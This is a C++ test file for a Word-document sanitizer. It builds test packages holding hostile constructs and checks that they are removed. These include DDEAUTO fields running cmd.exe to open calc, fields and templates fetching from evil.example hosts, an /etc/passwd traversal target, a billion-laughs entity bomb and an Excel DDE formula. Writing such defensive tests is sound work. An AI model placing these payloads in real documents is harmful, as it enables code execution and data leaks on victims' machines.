#include "sanitizer/ooxml/ooxml_sanitizer.h"

#include <gtest/gtest.h>
#include <png.h>

#include <cstring>
#include <map>

#include "sanitizer/common/zip_io.h"
#include "sanitizer/core/engine.h"
#include "sanitizer/ooxml/ooxml_content.h"
#include "sanitizer/testing/independent_scan.h"

namespace lbg::sanitizer {
namespace {

const std::string kW = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const std::string kR = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const std::string kRel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
const std::string kDocCt = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

std::string relsXml(const std::vector<std::string>& rels) {
  std::string x = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
                  "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
  for (const auto& r : rels) x += r;
  return x + "</Relationships>";
}

std::string rel(const std::string& id, const std::string& type, const std::string& target, bool external = false) {
  return "<Relationship Id=\"" + id + "\" Type=\"" + (type.find("://") == std::string::npos ? kRel + type : type) +
         "\" Target=\"" + target + "\"" + (external ? " TargetMode=\"External\"" : "") + "/>";
}

std::string docXml(const std::string& body) {
  return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"" + kW + "\" xmlns:r=\"" + kR +
         "\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" "
         "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><w:body>" + body + "</w:body></w:document>";
}

// A minimal Word package: the document, its relationships, extra parts and content types.
std::string makeDocx(const std::string& body, const std::vector<std::string>& docRels = {},
                     const std::map<std::string, std::pair<std::string, std::string>>& extra = {},
                     const std::vector<std::string>& rootRels = {}) {
  std::string types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                      "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                      "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                      "<Override PartName=\"/word/document.xml\" ContentType=\"" + kDocCt + "\"/>";
  for (const auto& [name, part] : extra) types += "<Override PartName=\"/" + name + "\" ContentType=\"" + part.first + "\"/>";
  types += "</Types>";
  std::vector<std::string> root = {rel("rId1", "officeDocument", "word/document.xml")};
  root.insert(root.end(), rootRels.begin(), rootRels.end());
  ZipWriter w;
  w.add("[Content_Types].xml", types);
  w.add("_rels/.rels", relsXml(root));
  w.add("word/document.xml", docXml(body));
  w.add("word/_rels/document.xml.rels", relsXml(docRels));
  for (const auto& [name, part] : extra) w.add(name, part.second);
  std::string out, reason;
  EXPECT_TRUE(w.finish(&out, &reason));
  return out;
}

struct Result {
  Outcome outcome;
  std::string document;
};

Result run(const std::string& package, Mode mode = Mode::Rebuild) {
  auto engine = Engine::create(EngineConfig{}).value();
  Result r{engine->sanitize(package, "t.docx", mode), ""};
  if (r.outcome.report.verdict == Verdict::Sanitized && mode == Mode::Rebuild) {
    r.document = testing::zipRead(r.outcome.output, "word/document.xml");
    std::vector<std::string> findings = testing::scanOoxml(r.outcome.output);
    EXPECT_TRUE(findings.empty()) << findings.front();
  }
  return r;
}

bool removed(const Result& r, const std::string& kind) {
  for (const auto& item : r.outcome.report.removed) {
    if (item.kind == kind) return true;
  }
  return false;
}

const std::string kPara = "<w:p><w:r><w:t>Visible text</w:t></w:r></w:p>";

TEST(OoxmlSanitizer, CustomUiDropped) {
  auto r = run(makeDocx(kPara, {}, {{"customUI/customUI.xml", {"application/xml", "<customUI onLoad=\"Macro\"/>"}}},
                        {rel("rId9", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                             "customUI/customUI.xml")}));
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized) << r.outcome.report.reason;
  EXPECT_TRUE(removed(r, "customUI"));
  for (const auto& name : testing::zipNames(r.outcome.output)) EXPECT_EQ(name.find("customUI"), std::string::npos);
}

TEST(OoxmlSanitizer, RemoteTemplateDropped) {
  std::string settings = "<?xml version=\"1.0\"?><w:settings xmlns:w=\"" + kW + "\" xmlns:r=\"" + kR +
                         "\"><w:attachedTemplate r:id=\"rIdT\"/><w:zoom w:percent=\"100\"/></w:settings>";
  std::string pkg = makeDocx(kPara, {rel("rIdS", "settings", "settings.xml")},
                             {{"word/settings.xml", {"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml", settings}},
                              {"word/_rels/settings.xml.rels", {"application/vnd.openxmlformats-package.relationships+xml",
                                                                relsXml({rel("rIdT", "attachedTemplate", "http://evil.example/t.dotm", true)})}}});
  auto r = run(pkg);
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized) << r.outcome.report.reason;
  EXPECT_TRUE(removed(r, "attached-template"));
  std::string out = testing::zipRead(r.outcome.output, "word/settings.xml");
  EXPECT_EQ(out.find("attachedTemplate"), std::string::npos);
  EXPECT_NE(out.find("w:zoom"), std::string::npos);
}

TEST(OoxmlSanitizer, AltChunkAndExternalHyperlink) {
  std::string body = "<w:altChunk r:id=\"rIdA\"/><w:p><w:hyperlink r:id=\"rIdH\"><w:r><w:t>click me</w:t></w:r></w:hyperlink></w:p>";
  auto r = run(makeDocx(body, {rel("rIdA", "aFChunk", "chunk.mht"), rel("rIdH", "hyperlink", "http://evil.example/", true)},
                        {{"word/chunk.mht", {"message/rfc822", "MIME-Version: 1.0\r\n\r\n<script>x</script>"}}}));
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized);
  EXPECT_TRUE(removed(r, "altchunk"));
  EXPECT_TRUE(removed(r, "external-hyperlink"));
  EXPECT_EQ(r.document.find("altChunk"), std::string::npos);
  EXPECT_EQ(r.document.find("r:id"), std::string::npos);
  EXPECT_NE(r.document.find("click me"), std::string::npos);  // the link text stays
}

TEST(OoxmlSanitizer, DdeFieldsSimpleComplexAndObfuscated) {
  std::string body =
      "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \">"
      "<w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>"
      // { INCLUDEPICTURE "http://evil/x.png" \d }
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> INCLUDEPICTURE \"http://evil/x.png\" \\d "
      "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>pic result</w:t></w:r>"
      "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
      // { {QUOTE 68 68 69 65 85 84 79} c:\\x.exe } : the code is built by a nested field.
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
      "<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
      "<w:r><w:instrText> c:\\\\x.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
      // A page number stays a field.
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> PAGE </w:instrText></w:r>"
      "<w:r><w:instrText xml:space=\"preserve\">\\* MERGEFORMAT </w:instrText></w:r>"
      "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
  auto r = run(makeDocx(body));
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized);
  EXPECT_TRUE(removed(r, "dde-field"));
  EXPECT_TRUE(removed(r, "field-code"));
  EXPECT_EQ(r.document.find("DDE"), std::string::npos);
  EXPECT_EQ(r.document.find("INCLUDEPICTURE"), std::string::npos);
  EXPECT_EQ(r.document.find("QUOTE"), std::string::npos);
  EXPECT_EQ(r.document.find("x.exe"), std::string::npos);
  EXPECT_NE(r.document.find("simple result"), std::string::npos);
  EXPECT_NE(r.document.find("pic result"), std::string::npos);
  EXPECT_NE(r.document.find(" PAGE "), std::string::npos);
  EXPECT_NE(r.document.find("MERGEFORMAT"), std::string::npos);
}

TEST(OoxmlSanitizer, OleObjectInAlternateContentGoesEntirely) {
  std::string body =
      "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"x\"><w:object><o:OLEObject "
      "xmlns:o=\"urn:schemas-microsoft-com:office:office\" r:id=\"rIdO\" ProgID=\"Package\"/></w:object></mc:Choice>"
      "<mc:Fallback><w:t>fallback</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>" + kPara;
  auto r = run(makeDocx(body, {rel("rIdO", "oleObject", "embeddings/oleObject1.bin")},
                        {{"word/embeddings/oleObject1.bin", {"application/vnd.openxmlformats-officedocument.oleObject", "MZ"}}}));
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized);
  EXPECT_TRUE(removed(r, "ole-object"));
  EXPECT_EQ(r.document.find("OLEObject"), std::string::npos);
  EXPECT_EQ(r.document.find("AlternateContent"), std::string::npos);
  EXPECT_NE(r.document.find("Visible text"), std::string::npos);
}

TEST(OoxmlSanitizer, LinkedImageAndTraversalTargetDropped) {
  std::string body = "<w:p><w:r><a:blip r:embed=\"rIdBad\" r:link=\"rIdL\"/></w:r></w:p>" + kPara;
  auto r = run(makeDocx(body, {rel("rIdL", "image", "file://attacker/share/x.png", true),
                               rel("rIdBad", "image", "../../../../etc/passwd")}));
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized);
  EXPECT_TRUE(removed(r, "external-image"));
  EXPECT_TRUE(removed(r, "dangling-relationship"));
  EXPECT_EQ(r.document.find("rIdL"), std::string::npos);
  EXPECT_EQ(r.document.find("rIdBad"), std::string::npos);
}

std::string tinyPng() {
  png_image image;
  std::memset(&image, 0, sizeof image);
  image.version = PNG_IMAGE_VERSION;
  image.width = image.height = 4;
  image.format = PNG_FORMAT_GRAY;
  unsigned char px[16] = {0};
  png_alloc_size_t size = 0;
  png_image_write_to_memory(&image, nullptr, &size, 0, px, 0, nullptr);
  std::string out(size, '\0');
  png_image_write_to_memory(&image, out.data(), &size, 0, px, 0, nullptr);
  out.resize(size);
  return out + "TRAILING-PAYLOAD";
}

TEST(OoxmlSanitizer, ImagesRebuiltMetafilesDropped) {
  std::string body = "<w:p><w:r><a:blip r:embed=\"rIdP\"/><a:blip r:embed=\"rIdE\"/></w:r></w:p>";
  auto r = run(makeDocx(body, {rel("rIdP", "image", "media/a.png"), rel("rIdE", "image", "media/b.emf")},
                        {{"word/media/a.png", {"image/png", tinyPng()}}, {"word/media/b.emf", {"image/x-emf", "EMF"}}}));
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized);
  EXPECT_TRUE(removed(r, "image-unsupported-format"));
  std::string png = testing::zipRead(r.outcome.output, "word/media/a.png");
  EXPECT_EQ(png.rfind("\x89PNG", 0), 0u);
  EXPECT_EQ(png.find("TRAILING-PAYLOAD"), std::string::npos);
  EXPECT_NE(r.document.find("rIdP"), std::string::npos);
  EXPECT_EQ(r.document.find("rIdE"), std::string::npos);
}

TEST(OoxmlSanitizer, EntitiesAreNotExpanded) {
  std::string body = kPara;
  std::string pkg = makeDocx(body);
  // Replace the document with one that declares nested entities (billion laughs).
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
                       "\"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>" +
                       docXml("<w:p><w:r><w:t>&c;&c;&c;&c;</w:t></w:r></w:p>").substr(std::string("<?xml version=\"1.0\" encoding=\"UTF-8\"?>").size());
  ZipWriter w;
  for (const auto& name : testing::zipNames(pkg)) {
    w.add(name, name == "word/document.xml" ? laughs : testing::zipRead(pkg, name));
  }
  std::string bomb, reason;
  ASSERT_TRUE(w.finish(&bomb, &reason));
  auto r = run(bomb);
  if (r.outcome.report.verdict == Verdict::Sanitized) {
    EXPECT_LT(r.document.size(), 10000u);
    EXPECT_EQ(r.document.find("aaaaaaaaaa"), std::string::npos);
  }
}

TEST(OoxmlSanitizer, AmbiguousPackagesBlocked) {
  std::string good = makeDocx(kPara);
  // Two entries that differ only in case.
  ZipWriter w;
  for (const auto& name : testing::zipNames(good)) w.add(name, testing::zipRead(good, name));
  w.add("WORD/document.xml", docXml("<w:p><w:r><w:t>other</w:t></w:r></w:p>"));
  std::string dup, reason;
  ASSERT_TRUE(w.finish(&dup, &reason));
  EXPECT_EQ(run(dup).outcome.report.reason, "parse-error");
  // Malformed XML in a kept part.
  ZipWriter w2;
  for (const auto& name : testing::zipNames(good)) {
    w2.add(name, name == "word/document.xml" ? "<w:document><unclosed>" : testing::zipRead(good, name));
  }
  std::string broken;
  ASSERT_TRUE(w2.finish(&broken, &reason));
  EXPECT_EQ(run(broken).outcome.report.reason, "parse-error");
}

TEST(OoxmlSanitizer, TextModeKeepsFieldResultsNotCodes) {
  std::string body = "<w:p><w:fldSimple w:instr=\"DDE cmd\"><w:r><w:t>result text</w:t></w:r></w:fldSimple></w:p>" + kPara;
  auto r = run(makeDocx(body), Mode::Text);
  ASSERT_EQ(r.outcome.report.verdict, Verdict::Sanitized) << r.outcome.report.reason;
  EXPECT_NE(r.outcome.output.find("result text"), std::string::npos);
  EXPECT_NE(r.outcome.output.find("Visible text"), std::string::npos);
  EXPECT_EQ(r.outcome.output.find("DDE"), std::string::npos);
}

TEST(OoxmlContent, FieldAllowList) {
  using ooxml::fieldInstructionAllowed;
  EXPECT_TRUE(fieldInstructionAllowed(" PAGE \\* MERGEFORMAT"));
  EXPECT_TRUE(fieldInstructionAllowed("toc \\o \"1-3\""));
  EXPECT_TRUE(fieldInstructionAllowed("=SUM(ABOVE)"));
  EXPECT_FALSE(fieldInstructionAllowed("DDEAUTO c:\\x.exe"));
  EXPECT_FALSE(fieldInstructionAllowed(" ddeauto x"));
  EXPECT_FALSE(fieldInstructionAllowed("INCLUDETEXT \"\\\\\\\\host\\\\x\""));
  EXPECT_FALSE(fieldInstructionAllowed("MACROBUTTON x y"));
  EXPECT_FALSE(fieldInstructionAllowed(""));
  EXPECT_FALSE(fieldInstructionAllowed("HYPERLINK \"http://x\""));
}

TEST(OoxmlContent, ExternalFormulas) {
  using ooxml::formulaIsExternal;
  EXPECT_TRUE(formulaIsExternal("[1]!_xlbgnm.A1"));
  EXPECT_TRUE(formulaIsExternal("cmd|' /c calc'!A0"));
  EXPECT_TRUE(formulaIsExternal("'C:\\x\\[book.xlsx]Sheet1'!A1"));
  EXPECT_FALSE(formulaIsExternal("SUM(A1:A3)"));
  EXPECT_FALSE(formulaIsExternal("\"a|b\"&A1"));
  EXPECT_FALSE(formulaIsExternal("'My Sheet'!A1"));
}

TEST(OoxmlVerify, RejectsPackagesWithActiveContent) {
  FormatLimits limits;
  std::string docm = testing::readFile(std::string(LBG_CORPUS_DIR) + "/office/oleform/oleform-PR314.docm");
  EXPECT_NE(ooxml::verify(docm, limits), "");
  std::string dde = testing::readFile(std::string(LBG_CORPUS_DIR) + "/office/msodde/dde-test.docx");
  EXPECT_NE(ooxml::verify(dde, limits), "");
  FormatResult clean = ooxml::sanitize(dde, limits, nullptr);
  ASSERT_TRUE(clean.ok);
  EXPECT_EQ(ooxml::verify(clean.output, limits), "");
}

// The second check's own scan, construct by construct: each one is in a package that the
// rebuild would change, and verify must name it; the rebuilt package passes.
TEST(OoxmlVerify, FindsEachConstructOnItsOwn) {
  FormatLimits limits;
  const std::string field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>";
  const std::string fieldEnd = "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                               "<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
  struct Case {
    std::string body, want;
    bool rebuildCleans = true;  // false: a construct the rebuild leaves in a Word part, so the file blocks
  };
  std::vector<Case> cases = {
      {"<w:p><w:fldSimple w:instr=\" DDEAUTO cmd /c calc\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
       "verify:field-code"},
      {"<w:p><w:fldSimple w:instr=\" INCLUDETEXT c:\\\\x\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
       "verify:field-code"},
      {field + " LINK Excel.Sheet x " + fieldEnd, "verify:field-code"},
      {"<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>", "verify:field-code"},
      {"<w:p><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "verify:field-marker"},
      {"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>",
       "verify:field-code"},
      {"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:fldData>AAAA</w:fldData></w:fldChar></w:r></w:p>",
       "verify:fldData"},
      {"<w:p><w:r><w:t>x</w:t></w:r><w:ddeLink/></w:p>", "verify:ddeLink", false},
      {"<w:p><a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=Run\"/></w:p>", "verify:action-setting"},
      {"<w:p><w:f>[1]!A1</w:f></w:p>", "verify:external-formula", false},
      {"<w:p><w:hyperlink r:id=\"rId5\"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>",
       "verify:relationship-reference"},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(ooxml::verify(makeDocx(c.body), limits), c.want) << c.body;
    FormatResult rebuilt = ooxml::sanitize(makeDocx(c.body), limits, nullptr);
    ASSERT_TRUE(rebuilt.ok) << c.body << ": " << rebuilt.reason;
    EXPECT_EQ(ooxml::verify(rebuilt.output, limits), c.rebuildCleans ? "" : c.want) << c.body;
  }
  // What a rebuild keeps passes: allowed fields (with and without a separator, nested in another
  // field's code), in-presentation jumps, internal formulas, references to kept relationships.
  std::string clean = field + " PAGE " + fieldEnd +
                      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>NUMPAGES</w:instrText>"
                      "</w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>" + field + " IF " +
                      "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>PAGE"
                      "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> = 1 "
                      "\"a\" \"b\"" + fieldEnd +
                      "<w:p><a:hlinkClick r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/></w:p>"
                      "<w:p><w:f>SUM(A1:A2)</w:f></w:p>";
  EXPECT_EQ(ooxml::verify(makeDocx(clean), limits), "verify:relationship-reference");  // r:id=""
  std::string cleanNoLinks = clean;
  for (size_t at; (at = cleanNoLinks.find(" r:id=\"\"")) != std::string::npos;) cleanNoLinks.erase(at, 8);
  EXPECT_EQ(ooxml::verify(makeDocx(cleanNoLinks), limits), "");
  std::string settingsCt = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml";
  std::string settings = "<?xml version=\"1.0\"?><w:settings xmlns:w=\"" + kW +
                         "\"><w:docVars><w:docVar w:name=\"a\" w:val=\"b\"/></w:docVars></w:settings>";
  EXPECT_EQ(ooxml::verify(makeDocx("<w:p/>", {rel("rId2", "settings", "settings.xml")},
                                   {{"word/settings.xml", {settingsCt, settings}}}),
                          limits),
            "verify:settings-docVars");
}

}  // namespace
}  // namespace lbg::sanitizer
